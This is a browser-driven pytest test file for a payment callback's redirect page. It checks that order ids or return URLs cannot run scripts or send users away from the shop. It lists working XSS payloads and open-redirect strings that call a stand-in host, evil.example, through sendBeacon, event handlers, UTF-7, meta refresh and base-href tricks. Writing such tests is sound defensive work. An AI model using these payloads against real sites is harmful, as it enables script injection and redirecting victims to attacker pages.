"""The page in a real browser: whatever an order's id or return URL holds, it leads to the shop and nowhere else."""

from collections.abc import Callable, Iterator
from typing import Any
from urllib.parse import quote

import pytest
from playwright.sync_api import Route

from callback.processor import redirect
from tests.functions.test_redirect import FALLBACK, SETTINGS, SHOP
from tests.support.aws import ORDER
from tests.support.programs import chromium

# Measuring doubles the time, and what this goes through is measured elsewhere.
pytestmark = [pytest.mark.enable_socket, pytest.mark.no_cover]

OURS, HOME = "https://callback.example/", FALLBACK.removeprefix("https://")
PLAIN = {"Content-Type": "text/html; charset=utf-8"}
CALL = "navigator.sendBeacon('//evil.example')"
SCRIPTS = [f'"><script>{CALL}</script>', f"'><script>{CALL}</script>", f"&quot;&gt;&lt;script&gt;{CALL}"]
SCRIPTS += [
    f"--></title></style><script>{CALL}</script>",
    f'"><img src=x onerror="{CALL}">',
    f"+ACIAPgA8-script+{CALL}",
]
SCRIPTS += [f'" onfocus="{CALL}" autofocus style="background:url(//evil.example)', '"><base href=//evil.example/>']
SCRIPTS += [f"+ACIAPgA8-script+AD4-{CALL}"]
SCRIPTS += ['"><meta http-equiv=refresh content="0;url=http://evil.example/">', f'\0"\0><\0script>{CALL}</script>']
PLACES = ["http://evil.example/", "//evil.example/", "/\\evil.example/", "\x01\n http://evil.example/"]
PLACES += ["http://evil.example\\@shop.local.example/", "';url=http://evil.example/"]
# What turns `https://shop.local.example` into another site, were it to follow at once.
TAILS = ["@evil.example/", ".evil.example/", "\\@evil.example/", "\t@evil.example/", "\u3002evil.example/"]
# Each asks a host of its own.
BAD_PAGE = """<script>navigator.sendBeacon('//script.evil.example')</script><img src=//image.evil.example>
<img src=x: onerror="navigator.sendBeacon('//error.evil.example')"><img src=http://tls.evil.example>
<svg onload="navigator.sendBeacon('//svg.evil.example')"></svg><iframe src=//frame.evil.example></iframe>
<link rel=stylesheet href=//sheet.evil.example><style>@import '//style.evil.example';</style>
<base href=//base.evil.example><img src=/>"""
HOSTS = {f"{name}.evil.example/" for name in "script image error tls svg frame sheet style base".split()}

Visit = Callable[[object, Any], list[str]]


@pytest.fixture(scope="module")
def visit() -> Iterator[Visit]:
    """Open a page in one browser, follow where it leads, and return what was asked for; no request leaves it."""
    served, asked = dict[str, Any](), list[str]()

    def answer(route: Route) -> None:
        if route.request.url == OURS:
            route.fulfill(**served)
            return
        asked.append(route.request.url.partition("://")[2])
        if route.request.is_navigation_request():
            route.fulfill(body="", content_type="text/html")
        else:
            route.abort()

    with chromium() as browser:
        page = browser.new_page()
        page.route("**/*", answer)

        def visit(body: object, headers: Any) -> list[str]:
            served.update(body=body, headers=headers)
            asked.clear()
            with page.expect_navigation(url=lambda url: url != OURS, wait_until="load"):
                page.goto(OURS, wait_until="commit")
            return list(asked)

        yield visit


@pytest.mark.parametrize("payload", SCRIPTS + PLACES + TAILS, ids=ascii)
def test_no_text_runs_a_script_or_leads_away(visit: Visit, payload: str) -> None:
    """In a return URL or as an order id it makes one request, the shop's; with scripts also without a policy."""
    url, leads_to = (f"{SHOP}{payload}", HOME) if payload in TAILS else (f"{SHOP}/{payload}", "shop.local.example/")
    pages = [(redirect(ORDER, url, SETTINGS), leads_to)]
    if payload in SCRIPTS:
        pages.append((redirect(payload, None, SETTINGS), f"shop.local.example/orders/{quote(payload, safe='')}"))
    for page, expected in pages:
        [asked] = visit(page["body"], PLAIN if payload in SCRIPTS else page["headers"])
        assert asked.startswith(expected)


def test_policy_stops_what_would_get_in(visit: Visit) -> None:
    """Without the policy a bad page is seen to ask strangers; with it, it does nothing but lead to the shop."""
    page = BAD_PAGE + f'<meta http-equiv="refresh" content="0;url={FALLBACK}">'
    assert set(visit(page, PLAIN)) >= HOSTS
    assert visit(page, redirect(ORDER, None, SETTINGS)["headers"]) == [HOME]
